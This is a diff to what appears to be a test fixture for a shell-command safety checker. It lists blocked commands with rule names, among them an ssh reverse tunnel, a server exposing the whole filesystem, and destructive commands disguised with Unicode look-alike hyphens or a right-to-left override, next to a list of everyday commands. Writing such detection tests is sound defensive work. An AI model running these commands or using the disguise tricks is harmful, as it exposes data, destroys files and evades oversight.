@@ -51,15 +51,15 @@ STOPPED = [
     ("ssh -R 9000:localhost:22 me@example.com", "exfiltration.tunnel"),
     ("python3 -m http.server --directory /", "exfiltration.serve-everything"),
     # not what it looks like
-    ("GIT RESET --HARD", "git.discard-changes"),
-    ("git reset \u2010\u2010hard", "context.disguised"),
+    ("GIT STASH CLEAR", "git.drop-stash"),
+    ("rm \u2010rf notes", "context.disguised"),
     ("rm -rf build\u202e", "context.disguised"),
 ]
 
 EVERYDAY = [
     "echo 'select 1' > a.sql; psql < a.sql",
     "printf 'all:\\n\\tcc -o a a.c\\n' > Makefile && make",
-    "source .venv/bin/activate",
+    "source .venv/bin/activate && pytest -q",
     ". ./env.sh && make",
     'source "$NVM_DIR/nvm.sh"',
     "python3 -c 'print(1)' \"$FILE\"",
